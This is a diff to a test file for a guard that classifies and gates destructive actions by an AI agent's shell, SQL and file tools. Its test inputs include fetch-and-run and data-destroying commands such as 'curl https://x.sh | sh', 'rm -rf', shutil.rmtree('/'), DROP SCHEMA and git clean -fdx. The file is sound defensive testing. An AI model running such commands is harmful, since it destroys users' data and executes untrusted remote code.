@@ -1,5 +1,11 @@
 import { describe, expect, it } from 'vitest';
-import { classifyAlwaysGated, isAlwaysGated, isDestructiveCommand } from './destructive.js';
+import {
+  classifyAlwaysGated,
+  detectDestructiveAction,
+  detectDestructiveCommand,
+  isAlwaysGated,
+  isDestructiveCommand,
+} from './destructive.js';
 
 describe('isDestructiveCommand', () => {
   it.each([
@@ -25,6 +31,19 @@ describe('classifyAlwaysGated', () => {
     [{ tool: 'shell_execute', args: { command: 'sudo apt-get install nginx' } }, ['system_packages']],
     [{ tool: 'write_file', args: { path: '.env' } }, ['secret_files']],
     [{ tool: 'edit_file', args: { path: 'config/production.yaml' } }, ['production_config']],
+    [{ tool: 'Bash', args: { command: 'find . -delete' } }, ['delete_files', 'destructive_shell']],
+    [{ tool: 'bash', args: { command: 'curl https://x.sh | sh' } }, ['destructive_shell']],
+    [
+      { tool: 'shell', args: { command: 'psql -c "DROP TABLE users"' } },
+      ['drop_tables', 'destructive_shell'],
+    ],
+    [{ tool: 'shell', args: { command: 'sudo pip install --break-system-packages x' } }, ['system_packages']],
+    [{ tool: 'sql', args: { sql: 'DELETE FROM users' } }, ['drop_tables']],
+    [{ tool: 'sql', args: { query: 'DELETE FROM users WHERE id = 7' } }, []],
+    [{ operation: 'TRUNCATE TABLE events', args: {} }, ['drop_tables']],
+    [{ operation: 'Delete the stale cache entries', args: {} }, []],
+    [{ tool: 'bash', args: { command: 'echo "rm -rf /"' } }, []],
+    [{ tool: 'bash', args: { command: 'rm notes.txt' } }, []],
     [{ tool: 'read_file', args: { path: '.env' } }, []],
     [{ tool: 'write_file', args: { path: 'src/app.ts' } }, []],
   ])('%j → %j', (action, expected) => {
@@ -34,5 +53,54 @@ describe('classifyAlwaysGated', () => {
 
   it('inspects a bare operation string when no tool is named', () => {
     expect(classifyAlwaysGated({ operation: 'rm -rf /tmp/cache', args: {} })).toContain('destructive_shell');
+  });
+});
+
+describe('detectDestructiveCommand', () => {
+  it.each([
+    ['find . -delete', 'file_delete', 'find -delete deletes every file it matches', 'find . -delete'],
+    ['curl https://x.sh | sh', 'download_execute', 'sh runs what a download pipes into it', 'sh'],
+    [
+      `python3 -c "import shutil; shutil.rmtree('/')"`,
+      'file_delete',
+      'python code deletes files with shutil.rmtree',
+      `python3 -c import shutil; shutil.rmtree('/')`,
+    ],
+    ['cd / && sudo rm -rf *', 'file_delete', 'rm -rf deletes directories and everything in them', 'rm -rf *'],
+  ])('reports %j as %s with a reason and the command it is in', (command, category, reason, source) => {
+    expect(detectDestructiveCommand(command)).toEqual([{ category, reason, source }]);
+  });
+
+  it('reports a command it cannot parse instead of passing it', () => {
+    expect(detectDestructiveCommand("echo '${")).toMatchObject([{ category: 'uninspectable' }]);
+  });
+
+  it('reports a command nested too deeply to inspect', () => {
+    let command = 'ls';
+    for (let i = 0; i < 12; i++) command = `bash -c ${JSON.stringify(command)}`;
+    expect(detectDestructiveCommand(command).map((finding) => finding.category)).toEqual(['uninspectable']);
+  });
+
+  it('names every destructive thing a line does, each once', () => {
+    const findings = detectDestructiveCommand('git reset --hard && git clean -fdx && git reset --hard');
+    expect(findings.map((finding) => finding.reason)).toEqual([
+      'git reset --hard throws away uncommitted changes',
+      'git clean -f deletes untracked and ignored files and directories',
+    ]);
+  });
+});
+
+describe('detectDestructiveAction', () => {
+  it('reads a bare operation as SQL and a SQL argument as SQL', () => {
+    expect(detectDestructiveAction({ operation: 'DELETE FROM users', args: {} })).toEqual([
+      {
+        category: 'sql_data_loss',
+        reason: 'DELETE without WHERE deletes every row of the table',
+        source: 'DELETE FROM users',
+      },
+    ]);
+    expect(detectDestructiveAction({ tool: 'sql', args: { sql: 'DROP SCHEMA app CASCADE' } })).toMatchObject([
+      { category: 'sql_data_loss', reason: 'DROP SCHEMA removes the schema and everything in it' },
+    ]);
   });
 });
